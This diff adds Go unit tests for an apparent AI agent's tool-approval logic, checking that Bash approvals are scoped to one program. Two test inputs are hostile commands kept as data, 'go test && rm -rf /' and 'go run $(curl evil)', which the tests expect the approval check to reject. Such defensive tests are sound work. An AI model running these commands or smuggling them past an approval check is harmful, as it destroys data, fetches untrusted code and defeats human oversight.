@@ -0,0 +1,35 @@
+package genie
+
+import (
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+)
+
+func TestToolApproval_Matches(t *testing.T) {
+	approval := NewToolApproval("Bash", "go test ./...")
+	assert.Equal(t, "Bash: go", approval.String())
+
+	assert.True(t, approval.Matches("Bash", "go vet ./pkg/..."))
+	assert.True(t, approval.Matches("bash", "go build"), "tool names match regardless of case")
+	assert.False(t, approval.Matches("Bash", "gofmt -l ."), "a different program")
+	assert.False(t, approval.Matches("Bash", "go test && rm -rf /"), "chained commands never match")
+	assert.False(t, approval.Matches("Bash", "go run $(curl evil)"), "substitutions never match")
+	assert.False(t, approval.Matches("githubCreateIssue", "go test"))
+
+	whole := NewToolApproval("githubCreateIssue", "")
+	assert.Equal(t, "githubCreateIssue", whole.String())
+	assert.True(t, whole.Matches("githubCreateIssue", "anything"))
+}
+
+func TestSession_ApproveTool(t *testing.T) {
+	session := NewSession("/home", "/work", nil, nil, nil)
+
+	assert.False(t, session.IsToolApproved("Bash", "go test"))
+	session.ApproveTool("Bash", "go test")
+	session.ApproveTool("Bash", "go vet") // same scope, recorded once
+
+	assert.True(t, session.IsToolApproved("Bash", "go build ./..."))
+	assert.False(t, session.IsToolApproved("Bash", "npm test"))
+	assert.Equal(t, []ToolApproval{{ToolName: "Bash", Program: "go"}}, session.GetToolApprovals())
+}